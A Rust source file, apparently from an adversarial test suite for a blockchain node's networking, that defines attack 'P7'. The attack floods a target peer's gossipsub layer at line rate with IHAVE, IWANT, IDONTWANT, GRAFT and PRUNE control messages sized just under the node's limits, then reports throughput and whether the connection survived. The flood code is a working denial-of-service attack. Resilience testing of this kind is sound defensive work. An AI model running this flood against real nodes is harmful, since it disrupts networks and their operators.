//! P7: control messages of gossipsub as fast as the line carries them.

use super::{
    Attack, Finding, Limits, Seat,
    scene::{Scene, failed, session},
};
use crate::Result;
use futures::{AsyncReadExt, AsyncWriteExt, FutureExt, StreamExt};
use peruri_adversary::{
    Client,
    gossip::{MESHSUB, Rpc},
    key_of,
};
use std::time::Duration;
use tokio::time::{Instant, timeout_at};

/// Message ids in an IHAVE, IWANT or IDONTWANT: together below the 16 KiB of control messages that a
/// node reads in one RPC.
const IDS: u32 = 150;
/// Pairs of GRAFT and PRUNE in an RPC, below the same bound.
const PAIRS: usize = 70;

pub(super) const ATTACK: Attack = Attack {
    id: "P7",
    name: "IHAVE, IWANT, GRAFT and PRUNE at line rate",
    seat: Seat::Listed,
    limits: Limits { interval: 1.2, cpu: None, memory: 64.0 },
    least: Duration::ZERO,
    stops: None,
    run: |scene, length| attack(scene, length).boxed(),
};

async fn attack(scene: Scene, length: Duration) -> Result<Vec<Finding>> {
    let end = Instant::now() + length;
    let target = scene.targets[0];
    let key = key_of(scene.secret.0).map_err(failed("the attacker's key"))?;
    let mut client = Client::new(key).map_err(failed("the attacker"))?;
    let mut incoming = client.accept(MESHSUB).map_err(failed("the attacker's gossip"))?;
    // What the node sends is read and thrown away, so that it does not wait for it.
    tokio::spawn(async move {
        while let Some((_, mut stream)) = incoming.next().await {
            let mut waste = vec![0; 64 << 10];
            while matches!(stream.read(&mut waste).await, Ok(read) if read > 0) {}
        }
    });
    let _session = session(&mut client, &scene, &target).await?;
    let topic = format!("/peruri/{}/transactions", scene.chain.genesis_hash());
    let rpcs = [Rpc::new().subscribe(&topic).graft(&topic), ids(&topic), pairs(&topic)];
    let [hello, floods @ ..] = rpcs.map(|rpc| rpc.encode());
    let mut sent = 0;
    let mut streams = 0;
    let mut connected = true;
    while connected && Instant::now() < end {
        let Ok(mut stream) = client.open(target.peer.peer_id, MESHSUB).await else {
            connected = client.dials().open > 0;
            continue;
        };
        streams += 1;
        let flood = async {
            stream.write_all(&hello).await?;
            for rpc in floods.iter().cycle() {
                stream.write_all(rpc).await?;
                sent += rpc.len();
            }
            std::io::Result::Ok(())
        };
        // A node that has had enough resets the stream; the attacker opens the next one.
        let _ = timeout_at(end, flood).await;
    }
    let still = target.connection(scene.identity()?.peer_id()).await?.is_some();
    let rate = sent as f64 / length.as_secs_f64() / f64::from(1 << 20);
    Ok(vec![Finding::new(
        "the control messages were sent",
        streams > 0 && sent > 1 << 20,
        format!("{rate:.1} MiB/s on {streams} streams; connected at the end: {still}"),
    )])
}

fn ids(topic: &str) -> Rpc {
    let ids: Vec<_> = (0..IDS).map(|n| n.to_be_bytes().repeat(8)).collect();
    Rpc::new().ihave(topic, &ids).iwant(&ids).idontwant(&ids)
}

fn pairs(topic: &str) -> Rpc {
    (0..PAIRS).fold(Rpc::new(), |rpc, _| rpc.graft(topic).prune(topic, &[], u64::MAX))
}
